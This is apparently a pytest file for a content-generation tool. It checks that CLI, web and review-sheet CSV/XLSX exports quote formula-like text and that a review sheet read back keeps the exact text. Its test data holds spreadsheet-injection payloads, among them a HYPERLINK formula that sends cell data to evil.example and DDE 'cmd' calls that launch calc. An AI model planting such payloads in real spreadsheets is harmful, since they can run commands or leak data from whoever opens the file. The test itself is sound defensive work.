"""Every CSV/XLSX a user can get (CLI export, review page export, review sheet) is formula-safe.

Stored texts a misbehaving model could write ('=HYPERLINK(...)', '+cmd|...', fullwidth '＝')
must reach a spreadsheet as text; a review sheet read back gives the original text exactly.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from contentgen.cli import cli
from contentgen.engine import Engine
from contentgen.export import COLUMNS
from contentgen.feedback.reviewsheet import export_sheet, import_sheet
from contentgen.tabular import is_formula_like
from contentgen.types import NewsSummaryRequest
from contentgen.web import create_app

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1, "Read more")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
)


def generated_text(engine: Engine, text: str) -> str:
    """Store a news summary whose text is exactly `text`, blanks and all (no model keeps them)."""
    request = NewsSummaryRequest(article="Placeholder article. More")
    (result,) = engine.stream([request], store=False)
    output = replace(result.outputs[0], text=text)
    payload = {"article": request.article}
    engine.store.save_result(
        request_id=result.request_id, task=result.task, payload=payload, outputs=[output]
    )
    return output.id


def _store_texts(engine: Engine, texts: Sequence[str]) -> dict[str, str]:
    """Store news summaries whose generated text is exactly each of `texts`; id -> text."""
    stored = {}
    for text in texts:
        stored[generated_text(engine, text)] = text
    return stored


@pytest.fixture
def hostile(engine: Engine) -> dict[str, str]:
    return _store_texts(engine, HOSTILE)


def _config(engine: Engine, tmp_path: Path) -> Path:
    config = tmp_path / "contentgen.toml"
    config.write_text(f'data_dir = "{engine.settings.data_dir}"\n', encoding="utf-8")
    return config


def _assert_quoted(cells: dict[str, str], expected: dict[str, str]) -> None:
    assert {oid: cells[oid] for oid in expected} == {oid: "'" + t for oid, t in expected.items()}
    assert [c for c in cells.values() if is_formula_like(c)] == []


def test_cli_export_csv_quotes_formula_like_text(
    engine: Engine, hostile: dict[str, str], tmp_path: Path
) -> None:
    out = tmp_path / "x.csv"
    result = CliRunner().invoke(
        cli,
        ["--config", str(_config(engine, tmp_path)), "export", "--out", str(out)],
        env={"CONTENTGEN_DATA_DIR": ""},
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    _assert_quoted({r["output_id"]: r["text"] for r in rows}, hostile)
    _assert_quoted({r["output_id"]: r["final_text"] for r in rows}, hostile)


@pytest.fixture
def client(engine: Engine) -> Iterator[TestClient]:
    with TestClient(create_app(engine), base_url="http://127.0.0.1") as built:
        yield built


def test_review_page_csv_and_xlsx_exports_quote_formula_like_text(
    hostile: dict[str, str], client: TestClient
) -> None:
    from openpyxl import load_workbook

    text = client.get("/api/export", params={"format": "csv"}).text
    rows = list(csv.DictReader(io.StringIO(text)))
    _assert_quoted({r["output_id"]: r["text"] for r in rows}, hostile)

    xlsx = client.get("/api/export", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content))["outputs"]
    lines = list(sheet.iter_rows(min_row=2))
    column = COLUMNS.index("text")
    assert all(line[column].data_type == "s" for line in lines)
    _assert_quoted({line[0].value: line[column].value for line in lines}, hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_review_sheet_round_trip_gives_back_the_exact_text(
    engine: Engine, hostile: dict[str, str], tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"review.{fmt}"
    export_sheet(engine.store, path, limit=50)
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.DictReader(handle))
        _assert_quoted({r["output_id"]: r["text"] for r in rows}, hostile)
        # The reviewer keeps the first text as it is and edits the second one.
        for row in rows:
            row["score"] = "4"
            row["edited_text"] = row["text"]
        second = next(r for r in rows if r["output_id"] == list(hostile)[1])
        second["edited_text"] = "'" + HOSTILE[1] + " edited"
        with path.open("w", encoding="utf-8-sig", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    else:
        from openpyxl import load_workbook

        book = load_workbook(path)
        sheet = book["review"]
        header = [c.value for c in sheet[1]]
        at = {name: header.index(name) + 1 for name in ("output_id", "text", "score")}
        at["edited_text"] = header.index("edited_text") + 1
        cells = {}
        for r in range(2, sheet.max_row + 1):
            oid = sheet.cell(r, at["output_id"]).value
            cells[oid] = sheet.cell(r, at["text"]).value
            sheet.cell(r, at["score"]).value = 4
            sheet.cell(r, at["edited_text"]).value = cells[oid]
            if oid == list(hostile)[1]:
                sheet.cell(r, at["edited_text"]).value = "'" + HOSTILE[1] + " edited"
        _assert_quoted(cells, hostile)
        book.save(path)

    report = import_sheet(engine.store, path, rater="ana")
    assert report.ok, report.summary()
    edits = {r.output_id: r.edited_text for r in engine.ratings() if r.kind == "edit"}
    assert edits == {list(hostile)[1]: HOSTILE[1] + " edited"}, "unchanged copies are not edits"
